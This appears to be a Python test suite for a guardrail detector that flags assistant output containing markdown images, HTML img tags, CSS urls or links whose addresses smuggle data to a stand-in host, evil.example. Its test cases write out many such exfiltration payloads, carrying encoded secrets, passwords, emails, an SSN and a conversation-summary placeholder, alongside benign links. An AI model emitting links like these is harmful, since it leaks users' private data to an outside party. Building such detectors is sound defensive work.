"""Links that carry data away, and links that are just links."""

from __future__ import annotations

from base64 import b64encode
from hashlib import sha256, sha512
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrail.types import Part
from guardrail_detectors.link_exfiltration import LinkExfiltration, LinkExfiltrationConfig
from guardrail_detectors.link_exfiltration.links import links
from guardrail_detectors.link_exfiltration.payload import payload
from tests.clock import seconds_of_work
from tests.kit import context

BLOCK, FLAG = 0.9, 0.5


async def found(text, kind="text", **settings):
    detector = LinkExfiltration(LinkExfiltrationConfig(**settings))
    await detector.load()
    part = Part("/a", kind, "assistant", text=text)
    return list(await detector.inspect([part], context()))


async def score(text, **settings):
    return max((finding.score for finding in await found(text, **settings)), default=0.0)


SECRET64 = "dXNlcjphbm5hO3Bhc3N3b3JkOmh1bnRlcjI7a2V5OnNrLTEyMzQ"


@pytest.mark.parametrize(
    "text",
    [
        "![ok](https://evil.example/p.png?data=my%20password%20is%20hunter2%20today)",
        f"![ok](https://evil.example/p.png?q={SECRET64}&data={SECRET64})",
        f"![](<https://evil.example/log?d={SECRET64}>)",
        f'![x](//evil.example/a?msg={SECRET64} "title")',
        "![a][1]\n\n[1]: https://evil.example/i?content=the+user+asked+about+the+merger+plan",
        f"![a]\n\n[a]: https://evil.example/i?d={SECRET64}",
        '<img src="https://evil.example/x?e=anna.berg@example.com">',
        f"<IMG SRC='https://evil.example/x?token={SECRET64}'",
        f'<img alt="" srcset="https://evil.example/x?token={SECRET64} 2x">',
        f"<div style=\"background:url('https://evil.example/b?data={SECRET64}')\"></div>",
        f"![x](https://evil.example/{SECRET64}.png)".replace(".png", ""),
        "![x](https://evil.example/p?data={conversation_summary})",
        "![x](https://evil.example/p?ssn=078-05-1120)",
        f"![x](https&#58;//evil.example/p?data={SECRET64})".replace("&#58;", ":"),
        f"![x](https://anna:{SECRET64}@evil.example/p.png)",
    ],
)
async def test_a_picture_with_data_in_its_address_is_found(text):
    assert await score(text) >= BLOCK, text


@pytest.mark.parametrize(
    "text",
    [
        f"[Click here](https://evil.example/?data={SECRET64})",
        "[more](https://evil.example/?message=the+user+said+that+the+code+is+4711)",
        f"See https://evil.example/?token={SECRET64} for details.",
        f'<a href="https://evil.example/?cookie={SECRET64}">more</a>',
    ],
)
async def test_a_link_with_data_is_found_and_weighs_less(text):
    assert FLAG <= await score(text) < BLOCK


@pytest.mark.parametrize(
    "text",
    [
        "No link at all.",
        "[The tide](https://en.wikipedia.org/wiki/Tide)",
        "See https://docs.python.org/3/library/urllib.parse.html#urllib.parse.urlsplit.",
        "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat)",
        "![logo](https://example.com/assets/logo-2024.png)",
        "[search](https://www.google.com/search?q=tide+tables+bergen&hl=en)",
        "[post](https://blog.example/2024/05/how-we-made-our-data-pipeline-ten-times-faster)",
        "[diff](https://github.com/a/b/commit/9fceb02d0ae598e95dc970b74767f19372d61af8)",
        "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)",
        (
            "![chart](https://bucket.s3.amazonaws.com/chart.png?X-Amz-Algorithm=AWS4-HMAC-SHA256"
            "&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20240101%2Fus-east-1%2Fs3%2Faws4_request"
            "&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024)"
        ),
        "[a](https://example.com/?utm_source=newsletter&utm_campaign=spring_sale_2024_edition)",
        (
            "![chart](https://storage.googleapis.com/charts/tide.png?X-Goog-Algorithm=GOOG4-RSA-SHA256"
            "&X-Goog-Credential=charts@tides-1.iam.gserviceaccount.com%2F20240101%2Fauto%2Fstorage"
            "%2Fgoog4_request&X-Goog-Date=20240101T000000Z&X-Goog-Expires=3600"
            f"&X-Goog-SignedHeaders=host&X-Goog-Signature={sha512(b'tide').hexdigest() * 4}"
        ),
        (
            "![map](https://tides.blob.core.windows.net/maps/bergen.png?sv=2022-11-02&sr=b&sp=r"
            "&st=2024-01-01T00%3A00%3A00Z&se=2024-01-02T00%3A00%3A00Z&spr=https&rscd=inline"
            f"&sig={quote(b64encode(sha256(b'tide').digest()).decode())}&rsct=image/png"
            "&skoid=0f8fad5b-d9cb-469f-a165-70867728950e&skv=2022-11-02&sks=b)"
        ),
        (
            "![a](https://cdn.example/a.png?Expires=1704067200&Key-Pair-Id=K2JCJMDEHXQW5F&Signature="
            f"{b64encode(sha512(b'a').digest() * 4).decode().replace('+', '-').replace('/', '~')})"
        ),
        "![a](https://static.example/_next/static/chunks/main-9fceb02d0ae598e95dc9.js?v=1.20.3)",
        (
            "[a](https://files.example/0f8fad5b-d9cb-469f-a165-70867728950e/"
            "7c9e6679-7425-40de-944b-e07fc1f90ae7/Report-Final-2024.pdf)"
        ),
        (
            "![a](https://upload.wikimedia.org/wikipedia/commons/thumb/4/4c/Map_of_Bergen-2019.svg/"
            "640px-Map_of_Bergen-2019.svg.png)"
        ),
        "[a](https://shop.example/?utm_source=Mail&utm_medium=email-digest&hl=pt-BR&lang=en_US)",
        r"A share is \\server\share\readme.txt and a newline in TeX is \\[2pt].",
        "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
        "[local](/docs/intro?text=hello) and [anchor](#section-two)",
        "```\ncurl https://api.example.com/v1/users?page=2&limit=50\n```",
        "[map](https://www.openstreetmap.org/#map=12/60.3913/5.3221)",
    ],
)
async def test_a_plain_link_passes(text):
    assert await score(text) < FLAG, text


async def test_any_picture_of_another_host_leaves_a_trace():
    assert 0 < await score("![x](https://example.com/pixel.gif)") < FLAG


async def test_trusted_hosts_are_trusted():
    text = f"![x](https://cdn.Example.com/p?data={SECRET64})"

    assert await score(text) >= BLOCK
    assert await score(text, allow_hosts=["*.example.com"]) == 0
    assert await score(text, allow_hosts=["example.com"]) >= BLOCK
    assert (await score(f"![x](https://example.com@evil.example/?data={SECRET64})",
                        allow_hosts=["example.com"])) >= BLOCK  # fmt: skip


async def test_the_span_holds_all_that_would_be_shown():
    picture = f"![ok](https://evil.example/p?data={SECRET64})"
    text = f"Here it is: {picture} - done."

    (finding,) = await found(text)

    assert text[slice(*finding.span)] == picture
    left = text[: finding.span[0]] + text[finding.span[1] :]
    assert await found(left) == []


async def test_tool_calls_are_read_too():
    text = f'{{"markdown": "![x](https://evil.example/?data={SECRET64})"}}'

    assert (await found(text, kind="tool_call"))[0].score >= BLOCK


@given(st.text(alphabet="![]()<>\"'=/:?&#. \nahtpsimgrcx", max_size=300))
async def test_no_text_is_too_odd(text):
    for finding in await found(text):
        start, end = finding.span
        assert 0 <= start < end <= len(text)
        assert 0 < finding.score <= 1


@pytest.mark.parametrize(
    "text",
    ["![" * 50_000, "[a](" * 20_000, "<img " * 20_000, "https://" * 20_000, "[" * 100_000 + "]"],
)
def test_no_text_takes_long(text):
    assert seconds_of_work(lambda: links(text)) < 5


@pytest.mark.parametrize(
    ("url", "low", "high"),
    [
        ("https://a.example", 0, 0),
        ("https://a.example/?q=cat", 0.1, 0.4),
        ("https://a.example/?page=2&sort=name", 0.1, 0.4),
        (f"https://{SECRET64[:30]}.a.example/", 0.7, 1),
        (f"https://a.example/#{SECRET64}", 0.5, 0.7),
        (f"https://a.example/?{SECRET64}", 0.7, 1),
        ("https://[broken", 0.5, 0.5),
    ],
)
def test_addresses_are_weighed_by_what_they_carry(url, low, high):
    assert low <= payload(url) <= high
